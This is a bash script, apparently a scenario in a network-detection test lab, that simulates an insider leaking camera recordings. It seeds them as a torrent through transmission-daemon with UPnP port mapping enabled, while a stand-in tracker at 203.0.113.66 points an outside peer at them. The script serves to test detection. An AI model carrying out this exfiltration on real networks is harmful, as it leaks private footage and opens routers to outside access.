#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export,upnp-port-map,new-listener half=tune tool=transmission-create,transmission-daemon far=net,out ready=out:6969 seconds=44 parts=dns,camera-gate,recorder-gate,nas,outside-web
# An insider seeds recordings as a torrent: the program asks the router for its port, and a peer outside that a tracker told of it fetches them.
if [ "$1" = net ]; then exec timeout 70 "$(dirname "$0")/../far/router.sh"; fi
if [ "$1" = out ]; then
	mkdir -p "$LAB/away"; (until [ -s "$LAB/see.torrent" ]; do sleep 1; done; sleep 6; exec timeout 40 transmission-cli -M -p 51999 -g "$LAB/leech" -w "$LAB/away" "$LAB/see.torrent") >/dev/null 2>&1 &
	exec timeout 70 python3 -c 'import http.server
class Tracker(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"d8:intervali60e5:peers6:" + bytes([10, 30, 0, 2]) + (51413).to_bytes(2, "big") + b"e"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
http.server.ThreadingHTTPServer(("203.0.113.66", 6969), Tracker).serve_forever()' 2>/dev/null
fi
sleep 14; mkdir -p "$LAB/seed" "$LAB/watch" "$LAB/share"; ln "$LAB"/recordings/gate/00[0-4].mp4 "$LAB/share/"
transmission-create -o "$LAB/new.torrent" -t http://203.0.113.66:6969/announce "$LAB/share" >/dev/null
printf '{"dht-enabled":false,"lpd-enabled":false,"pex-enabled":false,"utp-enabled":true,"rpc-enabled":false,"peer-port":51413,"bind-address-ipv4":"10.30.0.2","port-forwarding-enabled":true,"download-dir":"%s","watch-dir":"%s","watch-dir-enabled":true}' "$LAB" "$LAB/watch" >"$LAB/seed/settings.json"
timeout 26 transmission-daemon -f -g "$LAB/seed" >/dev/null 2>&1 & sleep 1; cp "$LAB/new.torrent" "$LAB/watch/"; cp "$LAB/new.torrent" "$LAB/see.torrent"
wait; rm -rf "$LAB/share"; [ "$(du -sb "$LAB/away" | cut -f1)" -gt 400000 ]
